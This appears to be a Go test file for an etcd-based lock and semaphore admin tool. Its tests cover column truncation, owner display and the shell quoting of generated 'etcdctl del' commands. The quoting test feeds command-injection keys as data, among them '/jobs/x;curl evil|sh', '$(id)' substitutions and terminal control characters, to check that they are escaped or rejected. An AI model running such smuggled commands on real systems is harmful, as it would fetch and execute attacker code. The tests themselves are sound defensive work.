package main

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/holdfast-go/holdfast"
	"github.com/holdfast-go/holdfast/admin"
)

// Pods of one Deployment have long names that differ at the end.
func TestTextIsCutInTheMiddle(t *testing.T) {
	const one, two = "billing-worker-7d9f8b6c5d-abcde:1", "billing-worker-7d9f8b6c5d-vwxyz:1"
	for _, width := range []int{14, 20, 28} {
		a, b := clean(one, width), clean(two, width)
		if a == b || utf8.RuneCountInString(a) != width || !strings.HasPrefix(a, "bill") || !strings.HasSuffix(a, "e:1") {
			t.Errorf("in %d columns: %q and %q", width, a, b)
		}
	}
	if got := clean(one, 0) + clean("short", 5); got != one+"short" {
		t.Errorf("cut without need: %q", got)
	}
}

// Others have chosen the key, and an operator pastes the command.
func TestKeyInACommandIsOneWordOfAShell(t *testing.T) {
	for key, want := range map[string]string{
		"/jobs/x":                  "etcdctl del /jobs/x",
		"/jobs/x;curl evil|sh":     "etcdctl del '/jobs/x;curl evil|sh'",
		"/jobs/$(id)`id`\"$HOME\"": "etcdctl del '/jobs/$(id)`id`\"$HOME\"'",
		"/jobs/it's":               `etcdctl del '/jobs/it'\''s'`,
		"/jobs/a\nb":               "",
		"/jobs/\x1b[2J":            "",
		"/jobs/\xff":               "",
		"/jobs/\u202e":             "",
		"/jobs/ä ö":                "etcdctl del '/jobs/ä ö'",
		"a(b":                      "etcdctl del 'a(b'",
	} {
		if got := endCommand(admin.Entry{Key: key}); got != want {
			t.Errorf("%q: %s, want %s", key, got, want)
		}
	}
	if got := endCommand(admin.Entry{Key: "/jobs/$(id)", Lease: 0x694d}); got != "etcdctl lease revoke 694d" {
		t.Errorf("%s", got)
	}
}

// A candidate of election.NewAt has a value and no owner, as one of etcd's own clients.
func TestOwnerOfACandidateWithoutOneIsItsValue(t *testing.T) {
	for want, e := range map[string]admin.Entry{
		"10.0.0.2":       {Value: "10.0.0.2"},
		"10.0.0.3":       {Value: "10.0.0.3", Foreign: true},
		"another client": {Foreign: true},
		"(anonymous)":    {Value: "billing/a", Shared: true},
		"host:7":         {Host: "host", PID: 7, Value: "v"},
	} {
		if got := owner(e, 0); got != want {
			t.Errorf("%+v: %q, want %q", e, got, want)
		}
	}
}

// On a terminal a queue fits; in a pipe nothing is cut.
func TestQueueFitsATerminalAndIsWholeInAPipe(t *testing.T) {
	long := strings.Repeat("a-long-name.", 20)
	now := time.Date(2026, 1, 31, 12, 0, 0, 0, time.UTC)
	e := admin.Entry{
		Owner: long, Host: long, PID: 7, Value: long, QueuedAt: now, HeldAt: now, Revision: 5,
		Notice: admin.Entry{}.Notice,
	}
	e.Notice.By, e.Notice.Reason, e.Notice.At = long, long, now
	permit := e
	permit.Weight = 3
	for kind, entries := range map[holdfast.Kind][]admin.Entry{
		holdfast.KindLock: {e, e}, holdfast.KindSemaphore: {permit, permit},
	} {
		for _, width := range []int{0, 80, 132} {
			text := strings.Join(describe(admin.Queue{Kind: kind, Name: "x", Entries: entries}, 20, now, width), "\n")
			for line := range strings.Lines(text) {
				if n := utf8.RuneCountInString(strings.TrimSuffix(line, "\n")); width > 0 && n > width {
					t.Errorf("%s in %d columns has %d: %s", kind, width, n, line)
				}
			}
			if whole := strings.Count(text, long); width == 0 && (whole != 6 || strings.Contains(text, "…")) {
				t.Errorf("%s in a pipe is cut, %d are whole:\n%s", kind, whole, text)
			}
			event := eventLine(admin.Event{What: admin.Acquired, Entry: e, Revision: 1 << 20}, now, width)
			if n := utf8.RuneCountInString(event); width > 0 && n > width || strings.Contains(event, long) != (width == 0) {
				t.Errorf("%d columns: %s", n, event)
			}
		}
	}
}
